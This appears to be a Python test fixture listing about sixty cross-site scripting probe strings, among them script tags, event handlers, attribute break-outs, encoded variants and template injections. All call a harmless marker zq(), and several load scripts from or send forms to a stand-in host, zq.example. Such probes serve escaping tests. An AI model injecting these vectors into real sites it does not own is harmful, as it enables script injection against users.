"""Sixty texts that would run where a page forgot to escape one: each calls `zq()`, makes an element `zq-x` or asks for `/zq`."""

from __future__ import annotations

PAYLOADS = (
    "<zq-x>", "<script>zq()</script>", "<img src=/zq onerror=zq()>", "<svg onload=zq()>", '"><zq-x>', "'><zq-x>",
    '" onfocus=zq() autofocus x="', "' onfocus=zq() autofocus x='", "` onfocus=zq() x=`", "</title><script>zq()</script>",
    "</textarea><script>zq()</script>", "</option></select><img src=/zq onerror=zq()>", "</script><script>zq()</script>",
    "</style><script>zq()</script>", "--><script>zq()</script>", "<!--><img src=/zq onerror=zq()>-->", "]]><script>zq()</script>",
    "<scr<script>ipt>zq()</scr</script>ipt>", "<ScRiPt>zq()</sCrIpT>", "<script/zq>zq()</script>", "<script\t>zq()</script>",
    "<script src=/zq.js></script>", "<script src=//zq.example/a.js></script>", "<script type=module>import '/zq.js'</script>",
    "<body onload=zq()>", "<details open ontoggle=zq()>", "<video><source onerror=zq()></video>", "<audio src=/zq onerror=zq()>",
    "<input autofocus onfocus=zq()>", "<select autofocus onfocus=zq()>", "<marquee onstart=zq()>", "<iframe src=javascript:zq()>",
    "<iframe srcdoc='<script>parent.zq()</script>'>", "<object data=/zq>", "<embed src=/zq>", "<base href=//zq.example/>",
    "<meta http-equiv=refresh content='0;url=/zq'>", "<link rel=stylesheet href=/zq.css>", "<style>@import '/zq.css';</style>",
    "<b style='background:url(/zq)'>", "<a href=javascript:zq()>", "javascript:zq()",
    "java\tscript:zq()", "data:text/html,<script>zq()</script>",
    "<form action=//zq.example/><button>", "<button formaction=javascript:zq()>", "<math><mi xlink:href=javascript:zq()>",
    "<svg><script>zq()</script></svg>", "<svg><animate onbegin=zq() attributeName=x dur=1s>", "<svg><use href=/zq#a>",
    "&lt;script&gt;zq()&lt;/script&gt;", "&#60;script&#62;zq()&#60;/script&#62;", "\\u003cscript\\u003ezq()\\u003c/script\\u003e",
    "%3Cscript%3Ezq()%3C/script%3E", "＜script＞zq()＜/script＞", "{{ zq() }}${zq()}#{zq()}", "');zq();//", "\";zq();//",
    "${zq()}</script>",
    '<b hx-get=/zq hx-trigger=load>', "<template><zq-x></template><zq-x>",
)  # fmt: skip
FIRST = (
    1,
    2,
    4,
    6,
    3,
    55,
)  # those of the short form: a script, an image, out of an attribute both ways, an SVG, a template
